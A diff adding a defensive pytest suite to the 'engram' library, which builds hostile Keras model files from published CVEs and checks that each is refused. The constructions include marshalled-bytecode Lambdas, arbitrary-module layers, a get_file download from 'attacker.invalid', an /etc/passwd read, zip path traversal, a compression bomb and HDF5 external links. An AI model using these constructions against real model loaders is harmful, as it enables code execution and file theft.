@@ -1,0 +1,491 @@
+"""A corpus of hostile Keras files, one per published Keras loading vulnerability (and the like):
+each is refused with an error naming the entry, nothing it names is imported or run, and
+nothing is written. The files are made by hand (zipfile, json, h5py); Keras is not needed."""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import marshal
+import sys
+import zipfile
+
+import numpy as np
+import pytest
+
+from engram.nn import ModelFileError, Sequential
+from engram.nn.layers import Dense
+from engram.nn.models import load_model
+from engram.nn.saving import keras_format
+from engram.nn.saving.archive import Limits, read_zip
+
+h5py = pytest.importorskip("h5py")
+
+PAYLOAD = "engram_hostile_payload"
+
+
+@pytest.fixture
+def trap(tmp_path, monkeypatch):
+    """An importable module that writes a sentinel file if it is imported or any of it runs."""
+    sentinel = tmp_path / "PWNED"
+    (tmp_path / f"{PAYLOAD}.py").write_text(
+        "import pathlib\n"
+        f"pathlib.Path({str(sentinel)!r}).write_text('imported')\n"
+        "def run(*a, **k):\n"
+        f"    pathlib.Path({str(sentinel)!r}).write_text('ran')\n"
+        "class Evil:\n"
+        "    def __init__(self, *a, **k):\n"
+        "        run()\n"
+    )
+    monkeypatch.syspath_prepend(str(tmp_path))
+    sys.modules.pop(PAYLOAD, None)
+    return sentinel
+
+
+def good_model():
+    return Sequential([Dense(3, activation="relu", input_dim=4), Dense(2)], name="victim")
+
+
+def good_entries():
+    """The three entries of a valid engram-written .keras file."""
+    buffer = io.BytesIO()
+    good = good_model()
+    buffer = keras_format.keras_config(good), keras_format._weights_h5(good, False)
+    return buffer
+
+
+def write_keras(path, config=None, weights=None, extra=(), metadata=None):
+    base_config, base_weights = good_entries()
+    entries = {
+        "metadata.json": json.dumps(metadata or {"keras_version": "3.15.1"}).encode(),
+        "config.json": json.dumps(config if config is not None else base_config).encode(),
+        "model.weights.h5": weights if weights is not None else base_weights,
+    }
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+        for name, data in extra:
+            archive.writestr(name, data)
+    return path
+
+
+def with_layer(entry, index=1):
+    """The good config with ``entry`` inserted as a layer."""
+    config, _ = good_entries()
+    config["config"]["layers"].insert(index, entry)
+    return config
+
+
+def assert_refused(path, trap, match, tmp_path):
+    before = sorted(p.name for p in tmp_path.iterdir())
+    with pytest.raises(ModelFileError, match=match):
+        load_model(path)
+    assert not trap.exists(), "the hostile file ran code"
+    assert PAYLOAD not in sys.modules, "the hostile file imported its module"
+    assert sorted(p.name for p in tmp_path.iterdir()) == before, "loading wrote a file"
+
+
+def test_the_good_file_loads(tmp_path, trap):
+    model = load_model(write_keras(tmp_path / "good.keras"))
+    assert [type(layer).__name__ for layer in model.layers] == ["Dense", "Dense"]
+    assert not trap.exists()
+
+
+# -------------------------------------------------------------- config.json: code and imports
+def test_cve_2024_3660_lambda_with_marshalled_bytecode(tmp_path, trap):
+    code = base64.b64encode(marshal.dumps(compile("print('x')", "<x>", "exec"))).decode()
+    lam = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {
+            "name": "lambda",
+            "function": {"class_name": "__lambda__", "config": {"code": code}},
+        },
+        "registered_name": None,
+    }
+    path = write_keras(tmp_path / "m.keras", with_layer(lam))
+    assert_refused(path, trap, r"layer 1 is the class keras\.layers\.Lambda.*Python code", tmp_path)
+
+
+def test_cve_2025_1550_arbitrary_module_as_a_layer(tmp_path, trap):
+    evil = {"module": PAYLOAD, "class_name": "Evil", "config": {}, "registered_name": None}
+    path = write_keras(tmp_path / "m.keras", with_layer(evil))
+    assert_refused(path, trap, rf"layer 1 is the class {PAYLOAD}\.Evil, not on engram", tmp_path)
+
+
+def test_cve_2025_1550_function_as_an_activation(tmp_path, trap):
+    config, _ = good_entries()
+    config["config"]["layers"][1]["config"]["activation"] = {
+        "module": PAYLOAD,
+        "class_name": "function",
+        "config": "run",
+        "registered_name": "function",
+    }
+    path = write_keras(tmp_path / "m.keras", config)
+    assert_refused(path, trap, r"layer 1\.activation is .*functions and custom objects", tmp_path)
+
+
+def test_cve_2025_8747_get_file_gadget_downloads_nothing(tmp_path, trap):
+    config, _ = good_entries()
+    config["config"]["layers"][1]["config"]["kernel_initializer"] = {
+        "module": "keras.utils",
+        "class_name": "function",
+        "config": "get_file",
+        "registered_name": "function",
+        "args": {"origin": "https://attacker.invalid/payload.py", "cache_dir": str(tmp_path)},
+    }
+    path = write_keras(tmp_path / "m.keras", config)
+    assert_refused(path, trap, r"kernel_initializer is keras\.utils\.function", tmp_path)
+
+
+def test_cve_2025_9906_enable_unsafe_deserialization_then_lambda(tmp_path, trap):
+    gadget = {
+        "module": "keras.config",
+        "class_name": "function",
+        "config": "enable_unsafe_deserialization",
+        "registered_name": "function",
+    }
+    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {}, "registered_name": None}
+    config = with_layer(lam)
+    config["config"]["layers"].insert(1, gadget)
+    path = write_keras(tmp_path / "m.keras", config)
+    match = r"layer 1 is keras\.config\.function with config 'enable_unsafe_deserialization'"
+    assert_refused(path, trap, match, tmp_path)
+
+
+def test_cve_2026_1462_tfsmlayer_loads_no_savedmodel(tmp_path, trap):
+    tfsm = {
+        "module": "keras.layers",
+        "class_name": "TFSMLayer",
+        "config": {"filepath": str(tmp_path / "attacker_savedmodel"), "call_endpoint": "serve"},
+        "registered_name": None,
+    }
+    path = write_keras(tmp_path / "m.keras", with_layer(tfsm))
+    assert_refused(path, trap, r"TFSMLayer.*SavedModel", tmp_path)
+
+
+def test_custom_registered_object_is_refused(tmp_path, trap):
+    config, _ = good_entries()
+    config["config"]["layers"][1]["registered_name"] = f"{PAYLOAD}>Evil"
+    path = write_keras(tmp_path / "m.keras", config)
+    assert_refused(path, trap, r"registered \(custom\) object", tmp_path)
+
+
+def test_vocabulary_file_layers_read_no_local_file(tmp_path, trap):
+    """Keras's StringLookup/TextVectorization read a vocabulary path from the config (an
+    arbitrary local file read); they are not on the allowlist."""
+    lookup = {
+        "module": "keras.layers",
+        "class_name": "StringLookup",
+        "config": {"vocabulary": "/etc/passwd"},
+        "registered_name": None,
+    }
+    path = write_keras(tmp_path / "m.keras", with_layer(lookup))
+    assert_refused(path, trap, r"StringLookup, not on engram's allowlist", tmp_path)
+
+
+def test_functional_graph_with_function_nodes_is_refused(tmp_path, trap):
+    config = {
+        "module": "keras",
+        "class_name": "Functional",
+        "config": {"layers": [{"module": PAYLOAD, "class_name": "function", "config": "run"}]},
+        "registered_name": None,
+    }
+    path = write_keras(tmp_path / "m.keras", config)
+    assert_refused(path, trap, r"functional model", tmp_path)
+
+
+def test_unknown_option_and_optimizer_module_are_refused(tmp_path, trap):
+    config, _ = good_entries()
+    config["config"]["layers"][1]["config"]["kernel_regularizer"] = {
+        "module": "keras.regularizers",
+        "class_name": "L2",
+        "config": {"l2": 0.1},
+    }
+    assert_refused(
+        write_keras(tmp_path / "a.keras", config),
+        trap,
+        r"kernel_regularizer=.*not implement",
+        tmp_path,
+    )
+    config, _ = good_entries()
+    config["compile_config"] = {
+        "optimizer": {"module": PAYLOAD, "class_name": "Adam", "config": {}},
+        "loss": "mse",
+    }
+    assert_refused(write_keras(tmp_path / "b.keras", config), trap, rf"{PAYLOAD}\.Adam", tmp_path)
+
+
+def test_cve_2025_9905_legacy_h5_model_is_not_read_as_a_model(tmp_path, trap):
+    """Keras ignored safe_mode for legacy .h5 model files (a Lambda in the model_config attr)."""
+    lam = {"class_name": "Lambda", "config": {"function": ["run", None, None]}}
+    for name in ("model.h5", "model.keras"):
+        path = tmp_path / name
+        with h5py.File(path, "w") as f:
+            f.attrs["model_config"] = json.dumps(
+                {"class_name": "Sequential", "config": {"layers": [lam]}}
+            )
+        assert_refused(path, trap, r"has a bad header|not a valid zip|not an engram", tmp_path)
+
+
+# ------------------------------------------------------------------------- the archive
+def test_path_traversal_and_absolute_names_write_nothing(tmp_path, trap):
+    for bad in ("../escaped.txt", "/tmp/engram_abs.txt", "a/../../escaped.txt", "C:/x.txt"):
+        path = write_keras(tmp_path / "m.keras", extra=[(bad, b"owned")])
+        assert_refused(path, trap, "Refused", tmp_path)
+    assert not (tmp_path.parent / "escaped.txt").exists()
+
+
+def test_unexpected_entries_and_too_many_entries(tmp_path, trap):
+    path = write_keras(tmp_path / "m.keras", extra=[("assets/run.py", b"import os")])
+    assert_refused(path, trap, r"unexpected archive entry 'assets/run\.py'", tmp_path)
+    extra = [(f"x{i}", b"") for i in range(20)]
+    path = write_keras(tmp_path / "m.keras", extra=extra)
+    assert_refused(path, trap, r"too many entries", tmp_path)
+
+
+def test_compression_bomb_is_refused_before_inflating(tmp_path, trap):
+    path = tmp_path / "bomb.keras"
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("metadata.json", b"{}")
+        archive.writestr("config.json", b" " * 20_000_000)
+        archive.writestr("model.weights.h5", b"")
+    assert path.stat().st_size < 100_000
+    assert_refused(path, trap, r"'config\.json' inflates .*compression bomb", tmp_path)
+
+
+def test_oversized_entry_and_total_limits():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("config.json", b"x" * 1000)
+    data = buffer.getvalue()
+    with pytest.raises(ModelFileError, match="over the 100-byte limit"):
+        read_zip(data, "m.keras", {"config.json"}, Limits(max_entry_bytes=100))
+    with pytest.raises(ModelFileError, match="in all, over"):
+        read_zip(data, "m.keras", {"config.json"}, Limits(max_total_bytes=500))
+    assert read_zip(data, "m.keras", {"config.json"}) == {"config.json": b"x" * 1000}
+
+
+def test_duplicate_entries_are_refused(tmp_path, trap):
+    path = write_keras(tmp_path / "m.keras")
+    with pytest.warns(UserWarning), zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("config.json", b"{}")
+    assert_refused(path, trap, r"appears twice", tmp_path)
+
+
+# ------------------------------------------------------------------------ the HDF5 weights
+def weights_file(build):
+    """The good model's weights file, changed by ``build(f)``."""
+    _, good = good_entries()
+    buffer = io.BytesIO(good)
+    with h5py.File(buffer, "a") as f:
+        build(f)
+    return buffer.getvalue()
+
+
+def test_external_link_to_another_file_is_not_followed(tmp_path, trap):
+    secret = tmp_path / "secret.h5"
+    with h5py.File(secret, "w") as f:
+        f["data"] = np.ones((4, 3), np.float32)
+
+    def build(f):
+        del f["layers/dense/vars/0"]
+        f["layers/dense/vars/0"] = h5py.ExternalLink(str(secret), "data")
+
+    path = write_keras(tmp_path / "m.keras", weights=weights_file(build))
+    assert_refused(path, trap, r"'layers/dense/vars/0' is a ExternalLink", tmp_path)
+
+
+def test_soft_link_is_refused(tmp_path, trap):
+    def build(f):
+        del f["layers/dense/vars/0"]
+        f["layers/dense/vars/0"] = h5py.SoftLink("/layers/dense_1/vars/0")
+
+    path = write_keras(tmp_path / "m.keras", weights=weights_file(build))
+    assert_refused(path, trap, r"is a SoftLink", tmp_path)
+
+
+def test_external_storage_and_virtual_datasets_are_refused(tmp_path, trap):
+    raw = tmp_path / "raw.bin"
+    raw.write_bytes(np.ones(12, np.float32).tobytes())
+
+    def external(f):
+        del f["layers/dense/vars/0"]
+        f.create_dataset("layers/dense/vars/0", (4, 3), "<f4", external=[(str(raw), 0, 48)])
+
+    path = write_keras(tmp_path / "m.keras", weights=weights_file(external))
+    assert_refused(path, trap, r"external file", tmp_path)
+
+    def virtual(f):
+        del f["layers/dense/vars/0"]
+        layout = h5py.VirtualLayout((4, 3), "<f4")
+        layout[:] = h5py.VirtualSource(str(tmp_path / "other.h5"), "data", shape=(4, 3))
+        f.create_virtual_dataset("layers/dense/vars/0", layout)
+
+    path = write_keras(tmp_path / "m.keras", weights=weights_file(virtual))
+    assert_refused(path, trap, r"virtual dataset", tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("change", "match"),
+    [
+        (lambda f: f.__setitem__("layers/dense/vars/9", np.zeros(3, np.float32)), "does not have"),
+        (lambda f: f.__delitem__("layers/dense/vars/1"), "lacks|larger than the arrays left"),
+        (
+            lambda f: (
+                f.__delitem__("layers/dense/vars/0"),
+                f.__setitem__("layers/dense/vars/0", np.zeros((400, 3), np.float32)),
+            ),
+            r"shape \(400, 3\).*needs shape \(4, 3\)",
+        ),
+        (
+            lambda f: (
+                f.__delitem__("layers/dense/vars/0"),
+                f.__setitem__("layers/dense/vars/0", np.zeros((4, 3), np.float64)),
+            ),
+            r"dtype float64.*dtype float32",
+        ),
+    ],
+)
+def test_every_dataset_is_checked_against_the_config(tmp_path, trap, change, match):
+    path = write_keras(tmp_path / "m.keras", weights=weights_file(change))
+    assert_refused(path, trap, match, tmp_path)
+
+
+def test_plugin_filter_is_refused_before_reading(tmp_path, trap):
+    _, good = good_entries()
+    # a dataset whose filter pipeline names an unregistered plugin id (HDF5 would search
+    # HDF5_PLUGIN_PATH for a shared library to load when the data are read)
+    buffer = io.BytesIO(good)
+    with h5py.File(buffer, "a") as f:
+        del f["layers/dense/vars/0"]
+        dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
+        dcpl.set_chunk((4, 3))
+        dcpl.set_filter(32123, h5py.h5z.FLAG_OPTIONAL)
+        space = h5py.h5s.create_simple((4, 3))
+        h5py.h5d.create(f["layers/dense/vars"].id, b"0", h5py.h5t.IEEE_F32LE, space, dcpl)
+    path = write_keras(tmp_path / "m.keras", weights=buffer.getvalue())
+    assert_refused(path, trap, r"filter\(s\) \[32123\]", tmp_path)
+
+
+def test_not_hdf5_and_bad_json(tmp_path, trap):
+    assert_refused(
+        write_keras(tmp_path / "a.keras", weights=b"\x80pickle"), trap, "not an HDF5", tmp_path
+    )
+    path = tmp_path / "b.keras"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("metadata.json", b'{"keras_version": "3.15.1"}')
+        archive.writestr("config.json", b"[" * 100_000)
+        archive.writestr("model.weights.h5", b"")
+    assert_refused(path, trap, r"config\.json is not valid JSON", tmp_path)
+
+
+def test_the_trap_springs_when_its_module_is_imported(trap):
+    """The check above could fail: importing the payload module writes the sentinel."""
+    import importlib
+
+    importlib.import_module(PAYLOAD)
+    assert trap.read_text() == "imported"
+    sys.modules.pop(PAYLOAD)
+
+
+def test_damaged_files_are_refused_with_model_file_error(tmp_path):
+    """Random byte flips and truncations: each file loads or raises ModelFileError, never
+    another exception (HDF5's own errors on a damaged file included)."""
+    from engram.nn.layers import LSTM
+
+    model = Sequential([LSTM(3, input_shape=(4, 2)), Dense(2)])
+    model.build()
+    model.compile("adam", "mse")
+    model.save(tmp_path / "m.keras")
+    with zipfile.ZipFile(tmp_path / "m.keras") as archive:
+        entries = {n: archive.read(n) for n in archive.namelist()}
+    rng = np.random.default_rng(0)
+    refused = 0
+    for trial in range(120):
+        key = "config.json" if trial % 3 == 1 else "model.weights.h5"
+        data = bytearray(entries[key])
+        for _ in range(int(rng.integers(1, 8))):
+            data[int(rng.integers(0, len(data)))] = int(rng.integers(0, 256))
+        if trial % 7 == 0:
+            data = data[: int(rng.integers(0, len(data)))]
+        path = tmp_path / "damaged.keras"
+        with zipfile.ZipFile(path, "w") as archive:
+            for name, value in {**entries, key: bytes(data)}.items():
+                archive.writestr(name, value)
+        try:
+            load_model(path)
+        except ModelFileError:
+            refused += 1
+    assert refused > 30
+
+
+@pytest.mark.parametrize("units", [10**12, 10**5])
+def test_a_config_asking_for_huge_weights_allocates_nothing(tmp_path, trap, units):
+    """units=10**12 would need terabytes; 10**5 a 400 KB kernel, larger than any array in the
+    file. Both are refused while the model is built, before a large array is allocated."""
+    config, _ = good_entries()
+    config["config"]["layers"][1]["config"]["units"] = units
+    path = write_keras(tmp_path / "m.keras", config)
+    assert_refused(path, trap, r"needs a weight of shape \(4, \d+\), larger than", tmp_path)
+
+
+def test_initializers_are_the_configs_after_loading(tmp_path):
+    model = load_model(write_keras(tmp_path / "m.keras"))
+    assert model.layers[0].kernel_initializer.name == "glorot_uniform"
+    assert model.layers[0].bias_initializer.name == "zeros"
+
+
+def test_configs_with_values_of_the_wrong_type_are_refused(tmp_path):
+    """Random values (None, lists, dicts, huge ints ...) put anywhere in a good config: each
+    file loads or raises ModelFileError, never another exception and never a huge array."""
+    import copy
+
+    import engram.nn.layers as L
+
+    model = Sequential(
+        [
+            L.Input((6, 5, 2)),
+            L.TimeDistributed(L.Dense(3)),
+            L.Reshape((6, 15)),
+            L.LSTM(3, return_sequences=True),
+            L.GRU(2),
+            L.BatchNormalization(),
+            L.Dense(2),
+        ]
+    )
+    model.build()
+    model.compile("adam", "mse", metrics=["mae"])
+    model.save(tmp_path / "m.keras")
+    with zipfile.ZipFile(tmp_path / "m.keras") as archive:
+        entries = {n: archive.read(n) for n in archive.namelist()}
+    config = json.loads(entries["config.json"])
+
+    def paths(obj, prefix=()):
+        items = obj.items() if isinstance(obj, dict) else enumerate(obj)
+        for key, value in items:
+            yield (*prefix, key)
+            if isinstance(value, (dict, list)):
+                yield from paths(value, (*prefix, key))
+
+    places = list(paths(config))
+    values = [None, 0, -1, 1.5, "x", [], {}, [1, 2], {"a": 1}, True, [None, 3], 10**12]
+    rng = np.random.default_rng(1)
+    refused = 0
+    for _ in range(150):
+        changed = copy.deepcopy(config)
+        place = places[int(rng.integers(len(places)))]
+        target = changed
+        for key in place[:-1]:
+            target = target[key]
+        target[place[-1]] = values[int(rng.integers(len(values)))]
+        path = tmp_path / "changed.keras"
+        with zipfile.ZipFile(path, "w") as archive:
+            for name, value in {**entries, "config.json": json.dumps(changed).encode()}.items():
+                archive.writestr(name, value)
+        try:
+            load_model(path)
+        except ModelFileError:
+            refused += 1
+    assert refused > 50
